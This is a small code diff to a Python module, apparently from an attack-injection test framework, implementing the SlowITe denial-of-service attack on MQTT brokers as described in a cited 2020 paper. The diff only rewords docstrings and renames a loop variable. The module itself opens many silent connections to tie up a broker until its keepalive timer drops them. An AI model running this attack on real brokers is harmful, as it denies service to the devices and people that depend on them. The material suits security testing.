@@ -1,4 +1,4 @@
-"""Slow denial (SlowITe): connections that say nothing until the broker's own timer ends them.
+"""Slow denial (SlowITe): connections that stay silent until the broker's own timer ends them.
 
 Vaccari, Aiello, Cambiaso: SlowITe, a novel denial of service attack affecting MQTT, Sensors 2020, 20(10), 2932.
 """
@@ -10,20 +10,20 @@ from coldaisle_injector.catalogue import Rogue, Scene
 from coldaisle_injector.script import At, Script, Until
 
 _PATIENCE = 1.5
-"""Keepalives a broker waits before it gives a client up (MQTT 3.1, 3.1)."""
+"""Number of keepalives after which a broker disconnects a silent client (MQTT 3.1, 3.1)."""
 
 
 class Attack(Rogue):
-    """Occupies connections for as long as the keepalive it asks for allows."""
+    """Occupies connections for as long as their keepalive allows."""
 
     def play(self, act: Act, scene: Scene) -> Script:
-        """Connect, fall silent, be thrown out."""
+        """Connect, stay silent, and wait until the broker closes the connections."""
         keepalive_s = round(self.episode.parameters["keepalive_s"])
         clients = []
         for number in range(round(act.amount)):
             clients.append(scene.foothold.client(scene.notes))
             clients[-1].send(messages.connect(f"slow-{number}", keepalive_s=keepalive_s))
-        yield Until(lambda: all(each.has(messages.CONNACK) for each in clients), "CONNACKs")
+        yield Until(lambda: all(client.has(messages.CONNACK) for client in clients), "CONNACKs")
         scene.notes.act(act.operation, slot=act.slot)
         yield At(scene.notes.times.now_ns() + round((_PATIENCE * keepalive_s + 1) * SECOND))
-        yield Until(lambda: all(each.ended for each in clients), "the broker to lose patience")
+        yield Until(lambda: all(client.ended for client in clients), "the broker to lose patience")
